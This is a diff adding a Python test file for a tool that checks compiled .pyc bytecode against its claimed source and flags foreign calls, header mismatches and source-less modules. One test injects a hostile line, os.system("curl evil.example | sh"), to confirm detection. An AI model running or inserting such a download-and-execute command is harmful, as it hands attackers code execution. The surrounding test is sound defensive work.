@@ -1,0 +1,71 @@
+#!/usr/bin/env python3
+"""Bytecode beside its source: what was compiled from it is explained, what uses more than it has is named.
+
+usage: bytecode.py PLUMB [PART-OF-A-NAME]
+"""
+import py_compile
+import sys
+
+from plumb_test import Skip, case, main
+
+SOURCE = '''"""Keeps names."""
+import os
+
+LIMIT = 60 * 1000
+
+
+class Store:
+    """A store of entries."""
+
+    def __init__(self, name):
+        self.__name = name
+
+    def load(self, path, *, limit=LIMIT):
+        with open(os.path.join(path, f"{self.__name}.json")) as f:
+            return [line.strip() for line in f if "key" "word" in line and len(line) < limit]
+'''
+
+
+def compiled(t, text, module="store"):
+    """A folder of one .pyc made of `text`, and the folder of SOURCE."""
+    if not (3, 8) <= sys.version_info[:2] <= (3, 13):
+        raise Skip("no reader for the bytecode of this Python")
+    source = t.path(f"made/{module}.py")
+    t.write(f"made/{module}.py", text.encode())
+    t.write("src/pkg/store.py", SOURCE.encode())
+    cached = t.path(f"pkg/usr/lib/pkg/__pycache__/{module}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc")
+    cached.parent.mkdir(parents=True, exist_ok=True)
+    py_compile.compile(str(source), str(cached), dfile="usr/lib/pkg/store.py")
+    return cached, t.check(t.path("pkg"), "--source", t.path("src"))
+
+
+@case
+def bytecode_of_its_own_source_is_explained(t):
+    _, report = compiled(t, SOURCE)
+    assert report.file(".pyc")["bytes"]["unaccounted"] == 0, report.findings()
+    assert not report.findings(tag="bytecode.foreign")
+
+
+@case
+def a_call_that_the_source_does_not_have_is_named(t):
+    _, report = compiled(t, SOURCE.replace("with open", 'os.system("curl evil.example | sh")\n        with open'))
+    found = report.findings(tag="bytecode.foreign", severity="error")
+    assert len(found) == 1 and "system" in found[0]["evidence"]["not in the source"], report.findings()
+    assert "load" in found[0]["message"]
+    assert report.code == 1
+
+
+@case
+def a_source_of_another_size_is_noticed(t):
+    _, report = compiled(t, SOURCE + "\n\n# a comment\n")
+    assert report.findings(tag="bytecode.header", severity="warning"), report.findings()
+
+
+@case
+def a_module_without_a_source_is_an_error(t):
+    _, report = compiled(t, SOURCE, module="backdoor")
+    assert report.findings(tag="file.unaccounted", severity="error"), report.findings()
+
+
+if __name__ == "__main__":
+    main()
